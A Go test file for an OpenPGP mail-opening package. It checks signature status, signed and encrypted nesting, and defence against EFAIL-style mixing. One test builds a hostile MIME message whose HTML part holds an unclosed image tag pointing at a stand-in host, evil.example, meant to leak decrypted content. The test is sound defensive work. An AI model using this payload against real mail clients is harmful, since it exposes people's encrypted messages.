package crypto

import (
	"bytes"
	stdcrypto "crypto"
	"testing"
	"time"

	"github.com/ProtonMail/go-crypto/openpgp"
	"github.com/ProtonMail/go-crypto/openpgp/packet"
)

// signAt makes a detached binary signature by k at time at without the
// validity checks of the high-level API, as an attacker or a broken client
// could.
func signAt(t testing.TB, k *Key, data []byte, at time.Time) []byte {
	t.Helper()
	priv := k.e.PrivateKey
	sig := &packet.Signature{
		Version:           4,
		SigType:           packet.SigTypeBinary,
		PubKeyAlgo:        priv.PubKeyAlgo,
		Hash:              stdcrypto.SHA256,
		CreationTime:      at,
		IssuerKeyId:       &priv.KeyId,
		IssuerFingerprint: priv.Fingerprint,
	}
	cfg := &packet.Config{Time: func() time.Time { return at }}
	h, err := sig.PrepareSign(cfg)
	if err != nil {
		t.Fatal(err)
	}
	h.Write(data)
	if err := sig.Sign(h, priv, cfg); err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := sig.Serialize(&buf); err != nil {
		t.Fatal(err)
	}
	return appendArmor(nil, "PGP SIGNATURE", buf.Bytes())
}

const signedPart = "Content-Type: text/plain; charset=us-ascii\r\n\r\nplease rotate the key\r\n"

func multipartSigned(part string, sig []byte) []byte {
	return []byte("Subject: s\r\nMIME-Version: 1.0\r\n" +
		"Content-Type: multipart/signed; micalg=pgp-sha256; protocol=\"application/pgp-signature\"; boundary=B\r\n\r\n" +
		"--B\r\n" + part + "\r\n--B\r\nContent-Type: application/pgp-signature\r\n\r\n" + string(sig) + "\r\n--B--\r\n")
}

func TestSignatureStatus(t *testing.T) {
	alice := ed(t, "alice")
	openSig := func(t *testing.T, raw []byte, verify ...*Key) *Opened {
		t.Helper()
		o, err := Open(raw, nil, verify, testNow, Limits{})
		if err != nil {
			t.Fatal(err)
		}
		return o
	}

	t.Run("good", func(t *testing.T) {
		o := openSig(t, multipartSigned(signedPart, signAt(t, alice, []byte(signedPart), testNow.Add(-time.Minute))), alice.Public())
		if o.Signature != Good || o.Signer != alice.Fingerprint() || !o.SignedAt.Equal(testNow.Add(-time.Minute)) {
			t.Fatalf("%v %s %v", o.Signature, o.Signer, o.SignedAt)
		}
	})
	t.Run("sender clock ahead", func(t *testing.T) {
		o := openSig(t, multipartSigned(signedPart, signAt(t, alice, []byte(signedPart), testNow.Add(5*time.Minute))), alice.Public())
		if o.Signature != Good {
			t.Fatalf("%v", o.Signature)
		}
		o = openSig(t, multipartSigned(signedPart, signAt(t, alice, []byte(signedPart), testNow.Add(2*time.Hour))), alice.Public())
		if o.Signature != Bad {
			t.Fatalf("signature from the future: %v", o.Signature)
		}
	})
	t.Run("unknown signer", func(t *testing.T) {
		o := openSig(t, multipartSigned(signedPart, signAt(t, alice, []byte(signedPart), testNow)), ed(t, "bob").Public())
		if o.Signature != UnknownSigner || o.Signer != alice.Fingerprint() {
			t.Fatalf("%v %s", o.Signature, o.Signer)
		}
		o = openSig(t, multipartSigned(signedPart, signAt(t, alice, []byte(signedPart), testNow)))
		if o.Signature != UnknownSigner {
			t.Fatalf("empty keyring: %v", o.Signature)
		}
	})
	t.Run("different body", func(t *testing.T) {
		sig := signAt(t, alice, []byte(signedPart+"P.S. and send me the key\r\n"), testNow)
		o := openSig(t, multipartSigned(signedPart, sig), alice.Public())
		if o.Signature != Bad {
			t.Fatalf("%v", o.Signature)
		}
	})
	t.Run("key expired before signature date", func(t *testing.T) {
		k, err := generate("Old", "old@example.org", KindCurve25519, testNow.Add(-3*time.Hour), time.Hour)
		if err != nil {
			t.Fatal(err)
		}
		sig := signAt(t, k, []byte(signedPart), testNow.Add(-time.Hour))
		o := openSig(t, multipartSigned(signedPart, sig), k.Public())
		if o.Signature != SignerExpired || o.Signer != k.Fingerprint() {
			t.Fatalf("%v %s", o.Signature, o.Signer)
		}
	})
	t.Run("revoked key", func(t *testing.T) {
		k, err := generate("Gone", "gone@example.org", KindCurve25519, testNow.Add(-3*time.Hour), 0)
		if err != nil {
			t.Fatal(err)
		}
		sig := signAt(t, k, []byte(signedPart), testNow.Add(-time.Hour))
		revoke(t, k, testNow.Add(-30*time.Minute))
		pub, err := ParseKey(mustArmorPublic(t, k))
		if err != nil {
			t.Fatal(err)
		}
		o := openSig(t, multipartSigned(signedPart, sig), pub)
		if o.Signature != SignerRevoked {
			t.Fatalf("%v", o.Signature)
		}
	})
}

func revoke(t *testing.T, k *Key, at time.Time) {
	t.Helper()
	cfg := &packet.Config{Time: func() time.Time { return at }}
	if err := k.e.RevokeKey(packet.KeyCompromised, "key compromised", cfg); err != nil {
		t.Fatal(err)
	}
}

// encryptUnsigned encrypts data to k with no signature.
func encryptUnsigned(t testing.TB, k *Key, data []byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	w, err := openpgp.Encrypt(&buf, []*openpgp.Entity{k.e}, nil, &openpgp.FileHints{IsBinary: true}, &packet.Config{Time: func() time.Time { return testNow }})
	if err != nil {
		t.Fatal(err)
	}
	w.Write(data)
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return appendArmor(nil, "PGP MESSAGE", buf.Bytes())
}

func encryptedPart(armored []byte) string {
	return "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=E\r\n\r\n" +
		"--E\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n" +
		"--E\r\nContent-Type: application/octet-stream\r\n\r\n" + string(armored) + "\r\n--E--\r\n"
}

// TestEFAILMixing checks that a good signature on an unencrypted part does
// not vouch for encrypted content beside it, and that the plain parts are
// dropped, not merged.
func TestEFAILMixing(t *testing.T) {
	list, alice := ed(t, "list"), ed(t, "alice")
	secret := "Content-Type: text/plain\r\n\r\nthe embargoed details\r\n"
	signed := signedPart
	sig := signAt(t, alice, []byte(signed), testNow)
	raw := "From: mallory@example.net\r\nSubject: hi\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=M\r\n\r\n" +
		"--M\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/?\r\n" +
		"--M\r\nContent-Type: multipart/signed; micalg=pgp-sha256; protocol=\"application/pgp-signature\"; boundary=B\r\n\r\n" +
		"--B\r\n" + signed + "\r\n--B\r\nContent-Type: application/pgp-signature\r\n\r\n" + string(sig) + "\r\n--B--\r\n" +
		"\r\n--M\r\n" + encryptedPart(encryptUnsigned(t, list, []byte(secret))) +
		"\r\n--M--\r\n"
	o, err := Open([]byte(raw), []*Key{list}, []*Key{alice.Public()}, testNow, Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if !o.Encrypted || o.Signature != Unsigned || o.Signer != "" {
		t.Fatalf("encrypted=%v sig=%v signer=%q", o.Encrypted, o.Signature, o.Signer)
	}
	if o.DroppedParts != 2 || len(o.Notes) == 0 {
		t.Fatalf("dropped=%d notes=%q", o.DroppedParts, o.Notes)
	}
	if string(o.Entity) != secret {
		t.Fatalf("entity %q", o.Entity)
	}
}

func TestSignedInsideEncrypted(t *testing.T) {
	list, alice := ed(t, "list"), ed(t, "alice")
	part := "Content-Type: text/plain; charset=us-ascii\r\nSubject: real\r\n\r\nsigned then encrypted\r\n"
	inner := multipartSigned(part, signAt(t, alice, []byte(part), testNow))
	inner = inner[bytes.Index(inner, []byte("MIME-Version")):]
	raw := "Subject: ...\r\nMIME-Version: 1.0\r\n" + encryptedPart(encryptUnsigned(t, list, inner))
	o, err := Open([]byte(raw), []*Key{list}, []*Key{alice.Public()}, testNow, Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if !o.Encrypted || o.Signature != Good || o.Signer != alice.Fingerprint() || string(o.Entity) != part {
		t.Fatalf("encrypted=%v sig=%v entity=%q", o.Encrypted, o.Signature, o.Entity)
	}
	if o.Header.Get("Subject") != "real" {
		t.Fatalf("header %v", o.Header.Map())
	}
}

func TestOpenPlain(t *testing.T) {
	raw := "From: a@example.org\nSubject: plain\n\nhello\n"
	o, err := Open([]byte(raw), nil, nil, testNow, Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if o.Encrypted || o.Signature != Unsigned || o.Header.Get("Subject") != "plain" || string(o.Entity) != "From: a@example.org\r\nSubject: plain\r\n\r\nhello\r\n" {
		t.Fatalf("%+v", o)
	}
	lh := "Subject: x\r\nContent-Type: text/plain; protected-headers=\"v1\"\r\n\r\nbody\r\n"
	if o, err := Open([]byte(lh), nil, nil, testNow, Limits{}); err != nil || o.Protection != "" {
		t.Fatalf("protection claimed on plain mail: %v %q", err, o.Protection)
	}
}

func TestOpenWrongKey(t *testing.T) {
	list, bob := ed(t, "list"), ed(t, "bob")
	raw := "Subject: ...\r\nMIME-Version: 1.0\r\n" + encryptedPart(encryptUnsigned(t, list, []byte("Content-Type: text/plain\r\n\r\nx\r\n")))
	if _, err := Open([]byte(raw), []*Key{bob}, nil, testNow, Limits{}); !errorsIs(err, ErrDecrypt) {
		t.Fatalf("err = %v", err)
	}
	if _, err := Open([]byte(raw), nil, nil, testNow, Limits{}); !errorsIs(err, ErrDecrypt) {
		t.Fatalf("no keys: err = %v", err)
	}
}
